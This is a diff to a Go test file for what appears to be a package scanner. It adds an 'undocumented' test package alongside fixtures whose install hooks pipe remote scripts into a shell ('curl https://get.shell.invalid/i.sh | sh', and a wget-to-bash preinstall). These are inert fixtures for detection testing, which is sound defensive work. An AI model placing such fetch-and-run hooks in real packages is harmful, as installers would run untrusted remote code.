@@ -33,11 +33,12 @@ func TestMain(m *testing.M) { storetest.Main(m) }
 // packages are what the stories install: small, written for the tests, inert by
 // construction (hosts end in .invalid), and analyzed by the real engine.
 var packages = map[string]map[string]string{
-	"vulnerable": {"index.js": "module.exports = 1\n"},
-	"quiet":      {"index.js": "module.exports = s => s.trim()\n"},
-	"scripts":    {"package.json": `{"name":"scripts","version":"VERSION","scripts":{"postinstall":"node setup.js"}}`, "setup.js": "console.log('hello')\n"},
-	"shell":      {"package.json": `{"name":"shell","version":"VERSION","scripts":{"postinstall":"curl https://get.shell.invalid/i.sh | sh"}}`},
-	"other":      {"package.json": `{"name":"other","version":"VERSION","scripts":{"preinstall":"wget -qO- https://get.other.invalid/i.sh | bash"}}`},
+	"vulnerable":   {"index.js": "module.exports = 1\n"},
+	"quiet":        {"index.js": "module.exports = s => s.trim()\n"},
+	"undocumented": {"package.json": `{"name":"undocumented","version":"VERSION","license":"MIT","repository":"github:a/a"}`},
+	"scripts":      {"package.json": `{"name":"scripts","version":"VERSION","scripts":{"postinstall":"node setup.js"}}`, "setup.js": "console.log('hello')\n"},
+	"shell":        {"package.json": `{"name":"shell","version":"VERSION","scripts":{"postinstall":"curl https://get.shell.invalid/i.sh | sh"}}`},
+	"other":        {"package.json": `{"name":"other","version":"VERSION","scripts":{"preinstall":"wget -qO- https://get.other.invalid/i.sh | bash"}}`},
 }
 
 // scanner analyzes the packages above in this process.
